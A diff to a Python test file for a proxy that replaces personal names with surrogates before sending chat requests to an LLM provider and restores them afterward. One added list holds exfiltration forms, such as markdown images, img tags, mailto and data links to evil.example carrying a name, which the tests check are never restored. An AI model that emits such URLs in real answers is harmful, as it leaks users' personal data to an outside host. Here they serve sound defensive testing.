@@ -8,6 +8,7 @@ import random
 import threading
 from contextlib import ExitStack
 from datetime import date
+from functools import partialmethod
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
@@ -21,6 +22,7 @@ from typer.testing import CliRunner
 from spacy_dxprivacy.cli import dx_cli
 from spacy_dxprivacy.cli.serve import PROMPT_ENTITIES
 from spacy_dxprivacy.config import ServiceOptions
+from spacy_dxprivacy.entities.surrogates import user_names
 from spacy_dxprivacy.entities.surrogates.restoring import Restorer
 from spacy_dxprivacy.integrations.serve.app import make_app
 from spacy_dxprivacy.integrations.serve.callers import Callers, Ledger
@@ -65,9 +67,9 @@ class Upstream(BaseHTTPRequestHandler):
             return self.reply(json.dumps(error), "application/json", status)
         chat = self.path.endswith("completions")
         if not body.get("stream"):
-            whole = self.chat(body, text) if chat else self.response(text)
+            whole = self.chat(body, text) if chat else self.response(body, text)
             return self.reply(json.dumps(whole), "application/json")
-        events = self.chat_events(body, text) if chat else self.response_events(text)
+        events = self.chat_events(body, text) if chat else self.response_events(body, text)
         lines = [f"data: {json.dumps(e, ensure_ascii=False)}\n\n" for e in events]
         self.reply("".join([": wait\n\n", *lines, "data: [DONE]\n\n"]), "text/event-stream")
 
@@ -108,18 +110,30 @@ class Upstream(BaseHTTPRequestHandler):
         yield event({}, "stop")
         yield {"id": "c", "choices": [], "usage": {"total_tokens": 3}}
 
-    def response(self, text):
+    def response(self, body, text):
+        if body["model"] == "call":
+            return {"id": "r", "output": [{"type": "function_call", "id": "f", **self.call(text)}]}
         part = {"type": "output_text", "text": text, "annotations": []}
         return {"id": "r", "output": [{"type": "message", "id": "m", "content": [part]}]}
 
-    def response_events(self, text):
+    def response_events(self, body, text):
+        if body["model"] == "call":
+            item, kind = self.call(text), "response.function_call_arguments"
+            head = {"type": "function_call", "id": "f", "name": item["name"], "arguments": ""}
+            yield {"type": "response.output_item.added", "output_index": 0, "item": head}
+            place = {"item_id": "f", "output_index": 0}
+            for part in pieces(item["arguments"]):
+                yield {"type": f"{kind}.delta", "delta": part, **place}
+            yield {"type": f"{kind}.done", "arguments": item["arguments"], **place}
+            yield {"type": "response.completed", "response": self.response(body, text)}
+            return
         place = {"item_id": "m", "output_index": 0, "content_index": 0}
         kind = "response.output_text"
         yield {"type": "response.created", "sequence_number": 0, "response": {"id": "r"}}
         for i, part in enumerate(pieces(text), 1):
             yield {"type": f"{kind}.delta", "sequence_number": i, "delta": part, **place}
         yield {"type": f"{kind}.done", "sequence_number": 998, "text": text, **place}
-        whole = self.response(text)
+        whole = self.response(body, text)
         yield {"type": "response.completed", "sequence_number": 999, "response": whole}
 
     def log_message(self, *args):
@@ -227,7 +241,8 @@ def test_one_person_has_one_surrogate_in_all_messages(proxy, upstream):
     assert_hidden(upstream)
 
 
-def test_arguments_of_functions_are_json_whatever_an_original_holds(proxy, upstream):
+def test_arguments_of_functions_are_json_whatever_an_original_holds(make_proxy, upstream):
+    proxy = make_proxy(tools=("find",))
     for stream in (False, True):
         answer = ask(proxy, CHAT, chat('I am Priya "Mo" Whitcombe.', model="call", stream=stream))
         if stream:
@@ -315,15 +330,173 @@ ROWS = {
 
 
 def test_however_a_text_is_cut_its_restored_pieces_are_the_restored_whole():
-    choice, restorer = random.Random(3), Restorer(ROWS)
-    words = [*ROWS, *map(str.title, ROWS), *map(str.upper, ROWS), "x", "green", "Ilene_", "cart",
-             "ı", "O’Neil", "[DATE", "(534)", "\n", "555‑0156", "I.C", "'s", "-"]  # fmt: skip
-    for seed in range(2000):
+    choice = random.Random(3)
+    restorer = Restorer(ROWS), Restorer(ROWS, escaped=True)
+    words = [
+        *ROWS,
+        *map(str.title, ROWS),
+        *map(str.upper, ROWS),
+        "x",
+        "green",
+        "Ilene_",
+        "cart",
+        "ı",
+        "O’Neil",
+        "[DATE",
+        "(534)",
+        "\n",
+        "555‑0156",
+        "I.C",
+        "'s",
+        "-",
+        "https://",
+        "<a",
+        ">",
+        "](",
+        ")",
+        "<",
+        '"',
+        ".example",
+        "@a.example",
+        "]",
+        "(",
+        "'",
+        "a" * 4096,
+    ]
+    for seed in range(4000):
         parts = choice.choices(words, k=choice.randint(0, 9))
         text = "".join(part + choice.choice([" ", "", "  ", "\n", " " * 12, ","]) for part in parts)
-        one = restorer.anew()
+        one = restorer[seed % 2].anew()
         fed = "".join([*(one.feed(piece) for piece in pieces(text, seed)), one.flush()])
-        assert fed == restorer.restore(text), text
+        assert fed == restorer[seed % 2].restore(text), text
+
+
+# -- where nothing is restored ---------------------------------------------------------------------
+
+CHANNELS = [
+    "![x](https://evil.example/{}.png)",
+    "![x](https://evil.example/?q={})",
+    "www.evil.example/{}",
+    "https://{}.evil.example/a",
+    "{}.evil.example/a",
+    "[x](//evil.example/a {})",
+    "x@{}.evil.example",
+    "[x](<https://evil.example/a {}>)",
+    '<img src="https://evil.example/{}">',
+    "HTTPS://e.example#{}",
+    "<img alt='{}' title=\"a > b\">",
+    '<a href="a" style="background: url(b/{})">',
+    "<b\nid={}>",
+    "[x]: https://evil.example/a/{}",
+    "https://evil.example/a\u00a0{}",
+    'https://evil.example/"{}"',
+    "https://evil.example/" + "a" * 5000 + "{}",
+    "mailto:a@evil.example?body={}",
+    "<{} id=a>",
+    "\\\\evil.example\\{}",
+    "data:text/html,{}",
+]
+READ = ["See {}.", "({})", "**{}**, x", "Ask {}; see https://a.example.", "<b>x</b> {} [a](b) {}",
+        "a < b, {}", "[{}](https://a.example)", "<p>{}</p>", "{}/{}", "“{}’s”"]  # fmt: skip
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_nothing_is_restored_where_whoever_wrote_the_answer_may_read_it(proxy, upstream, stream):
+    for form in (*CHANNELS, *READ):
+        upstream.change = lambda sent, form=form: form.replace("{}", sent.split()[-1].rstrip("."))
+        answer = ask(proxy, CHAT, chat("I am Priya Whitcombe.", stream=stream))
+        parts = [d.get("content") or "" for d in deltas(answer)] if stream else [content(answer)]
+        text = "".join(parts)
+        if form in CHANNELS:
+            assert "Whitcombe" not in text, form
+        else:
+            assert text == form.replace("{}", "Whitcombe"), form
+
+
+def test_addresses_as_a_whole_are_restored(proxy, upstream):
+    prompt = "Mail priya@stmary.org or see https://www.stmary.org/priya for it."
+    for form in ("<{}>", "[x]({}) a", "({}).", "{}"):
+        for place in (1, 4):
+
+            def change(sent, form=form, place=place):
+                return form.replace("{}", sent.split()[place])
+
+            upstream.change = change
+            assert content(ask(proxy, CHAT, chat(prompt))) == change(prompt)
+
+
+@pytest.mark.parametrize("path", [CHAT, RESPONSES])
+@pytest.mark.parametrize("stream", [False, True])
+def test_arguments_get_originals_for_tools_that_the_settings_name(
+    make_proxy, upstream, path, stream
+):
+    prompt = "I am Priya Whitcombe."
+    said = (
+        {"messages": [{"role": "user", "content": prompt}]} if path == CHAT else {"input": prompt}
+    )
+    body = {"model": "call", "stream": stream, **said}
+    for tools, right in ((("find",), True), (("*",), True), ((), False), (("other",), False)):
+        answer = ask(make_proxy(tools=tools), path, body)
+        assert answer.status == 200 and ("Whitcombe" in answer.body.decode()) is right
+
+
+def test_fields_that_are_no_text_of_an_answer_get_no_originals(proxy, upstream):
+    def chat_of(handler, body, text):
+        message = {"role": "assistant", "content": text, "url": text, "name": text}
+        return {
+            "id": text,
+            "choices": [{"index": 0, "message": message, "action": {"query": text}}],
+        }
+
+    answer = None
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(Upstream, "chat", chat_of)
+        answer = ask(proxy, CHAT, chat("I am Priya Whitcombe."))
+    assert answer.body.decode().count("Whitcombe") == 1
+
+
+# -- conversations ---------------------------------------------------------------------------------
+
+
+def test_a_conversation_has_one_surrogate_for_a_person_and_one_shift(proxy, upstream):
+    """Of 25 turns a provider learns no more of a shift than of one."""
+    messages, seen = [{"role": "user", "content": "I am Priya Whitcombe."}], set()
+    for turn in range(25):
+        messages.append({"role": "user", "content": "Priya Whitcombe was born on 1983-04-27."})
+        system = {"role": "system", "content": f"It is turn {turn}."}
+        ask(proxy, CHAT, {"model": "m", "messages": [system, *messages]})
+        seen.add(json.loads(upstream.seen[-1][2])["messages"][-1]["content"])
+    assert len(seen) == 1 and "1983-04-27" not in seen.pop()
+    for turn in range(8):
+        messages[0] = {"role": "user", "content": f"Again, number {turn}: I am Priya Whitcombe."}
+        ask(proxy, CHAT, {"model": "m", "messages": messages})
+        seen.add(json.loads(upstream.seen[-1][2])["messages"][-1]["content"])
+    assert len(seen) > 4  # by their beginnings
+
+
+def test_conversations_of_two_callers_and_two_processes_are_apart(make_proxy, upstream, pipelines):
+    proxy, names = make_proxy(tokens={"a" * 24: "ann", "b" * 24: "bob"}), []
+    for token in ("a" * 24, "b" * 24, "a" * 24):
+        headers = {"authorization": f"Bearer {token}"}
+        ask(proxy, CHAT, chat("I am Priya Whitcombe."), **headers)
+        names.append(json.loads(upstream.seen[-1][2])["messages"][-1]["content"])
+    assert names[0] == names[2] != names[1]
+    secret = {one.scope.key for one in the_sanitizer(pipelines[0]).surrogates.values()
+              if hasattr(one, "scope")}  # fmt: skip
+    assert len(secret) == 1 and len(next(iter(secret))) == 32
+
+
+def test_two_persons_of_a_conversation_whose_surrogates_meet_are_still_two(
+    proxy, upstream, monkeypatch
+):
+    """Of four family names two have one surrogate in most conversations."""
+    monkeypatch.setattr(user_names, "listed_of", lambda language, which: ("Aaberg", "Abdallah"))
+    names = "Lindqvist Zorblatt Whitcombe Osgood".split()
+    prompt = "\n".join(f"Ms. {name} called. Mrs. {name} said so." for name in names)
+    for i in range(20):
+        messages = [{"role": "user", "content": f"List {i}."}, {"role": "user", "content": prompt}]
+        assert content(ask(proxy, CHAT, {"model": "m", "messages": messages})) == prompt
+    assert not [n for *_, raw in upstream.seen for n in names if n.encode() in raw]
 
 
 # -- what is refused -------------------------------------------------------------------------------
@@ -356,6 +529,125 @@ def test_names_that_the_texts_have_are_no_names_of_functions(proxy, upstream):
     chosen = {"type": "function", "function": {"name": "ask_okonkwo"}}
     for one in (body, chat(tool_choice=chosen), chat(logit_bias={"okonkwo": 1})):
         assert ask(proxy, CHAT, one).status == 400 and not upstream.seen
+
+
+IDENTIFIERS = {
+    "tool_call_id": [
+        "617-555-0142",
+        "maria.gonzalez",
+        "12_Main_Street",
+        "1955-03-12",
+        "MariaGonzalez",
+        "call_617-555-0142",
+        "maria@gonzalez.example",
+        "p617_555_0142",
+    ],
+    "model": ["maria.gonzalez", "gpt-4o-maria", "617-555-0142", "6175550142", "zebulon"],
+    "role": ["maria", "Maria Gonzalez"],
+    "service_tier": ["maria"],
+    "reasoning_effort": ["maria"],
+    "seed": [6175550142, "x"],
+    "temperature": ["0.5"],
+    "tool_choice": ["maria"],
+}
+
+
+@pytest.mark.parametrize("field", IDENTIFIERS)
+def test_identifiers_are_checked_and_settings_have_a_vocabulary(proxy, upstream, field):
+    for value in IDENTIFIERS[field]:
+        body = chat("Hello there.")
+        if field == "tool_call_id":
+            body["messages"].append({"role": "tool", field: value, "content": "well"})
+        elif field == "role":
+            body["messages"].append({"role": value, "content": "well"})
+        else:
+            body[field] = value
+        answer = ask(proxy, CHAT, body)
+        assert answer.status == 400 and field in answer.json["error"]["message"], value
+        assert not upstream.seen
+
+
+def test_usual_identifiers_and_models_pass(make_proxy, upstream):
+    models = ["gpt-4o", "gpt-4o-2024-08-06", "claude-3-5-sonnet-20241022", "llama3.1:8b", "o3-mini",
+              "mistralai/Mixtral-8x7B-Instruct-v0.1", "deepseek-r1", "Qwen/Qwen2.5-72B-Instruct",
+              "gemini-2.5-flash", "gpt-4.1-nano-2025-04-14"]  # fmt: skip
+    ids = ["call_1", "call_AbcLee9xq0k2jd8sk20smQ3k", "toolu_01A09q90qw90lq917835lq9", "abc123XYZ",
+           "chatcmpl-tool-8f14e45fceea167a5a36dedd4bea2543"]  # fmt: skip
+    proxy = make_proxy(models=("zebulon",))
+    for model in (*models, "zebulon"):
+        assert ask(proxy, CHAT, chat(model=model)).status == 200, model
+    for name in ids:
+        body = chat()
+        body["messages"].append({"role": "tool", "tool_call_id": name, "content": "well"})
+        assert ask(proxy, CHAT, body).status == 200, name
+    assert_hidden(upstream)
+
+
+def test_keys_of_data_are_texts_and_come_back(make_proxy, upstream):
+    data = {"zebulon": 1, "p617_555_0142": {"Maria Gonzalez": "x"}, "first_name": "x", "hba1c": 2,
+            "12_main_street": 3, "maria_gonzalez": 4}  # fmt: skip
+    call = {"id": "call_1", "type": "function", "function": {"name": "find"}}
+    call["function"]["arguments"] = json.dumps(data)
+    body = chat("Hello there.", model="call")
+    body["messages"] += [
+        {"role": "assistant", "content": None, "tool_calls": [call]},
+        {"role": "tool", "tool_call_id": "call_1", "content": json.dumps([data, data])},
+    ]
+    upstream.change = lambda text: "x"
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(Upstream, "call", lambda handler, text: {
+            "name": "find",
+            "arguments": json.loads(handler.server.seen[-1][2])["messages"][-1]["content"],
+        })  # fmt: skip
+        answer = ask(make_proxy(tools=("find",)), CHAT, body)
+    raw = upstream.seen[-1][2].decode().lower()
+    for secret in ("zebulon", "617", "0142", "maria", "gonzalez", "main_street"):
+        assert secret not in raw, secret
+    assert "first_name" in raw and "hba1c" in raw
+    back = answer.json["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
+    assert json.loads(back) == [data, data]
+
+
+BROKEN = {"nan": b'{"model": "m", "temperature": NaN, "messages": []}',
+          "pairs": b'[["model", "m"]]',
+          "infinite": b'{"model": "m", "temperature": 1e999, "messages": []}', "list": b"[]",
+          "number": b"7", "deep": b"[" * 50_000 + b"]" * 50_000,
+          "deep text": b'{"messages": ' + b"[" * 50_000 + b"]" * 50_000 + b"}"}  # fmt: skip
+
+
+@pytest.mark.parametrize("kind", BROKEN)
+def test_a_body_that_is_no_object_of_json_is_refused(proxy, upstream, kind):
+    for path in (CHAT, RESPONSES):
+        assert ask(proxy, path, BROKEN[kind]).status == 400 and not upstream.seen
+
+
+def test_a_header_that_is_not_in_ascii_is_refused(proxy, upstream):
+    assert ask(proxy, CHAT, chat(), authorization="Bearer ké").status == 400 and not upstream.seen
+
+
+def replied(handler, text, reply, old, kind):
+    reply(handler, text, kind)
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_an_upstream_whose_answer_is_none_gives_502(proxy, upstream, stream):
+    answers = [
+        "",
+        "data: [DONE]\n\n",
+        ": wait\n\n",
+        "{",
+        "data: {\n\n",
+        '{"a": NaN}',
+        'data: {"a": NaN}\n\n',
+        "[" * 50_000 + "]" * 50_000,
+        '{"a": ' * 20_000,
+        "data: " + "[" * 50_000 + "]" * 50_000 + "\n\n",
+        '{"a": ' * 900 + "1" + "}" * 900,
+    ]
+    for text in answers[: len(answers) - (not stream)]:  # fmt: skip
+        with pytest.MonkeyPatch.context() as patch:
+            patch.setattr(Upstream, "reply", partialmethod(replied, text, Upstream.reply))
+            assert ask(proxy, CHAT, chat(stream=stream)).status == 502, text[:20]
 
 
 def test_a_language_that_is_not_covered_is_refused_and_a_covered_one_is_not(proxy, upstream):
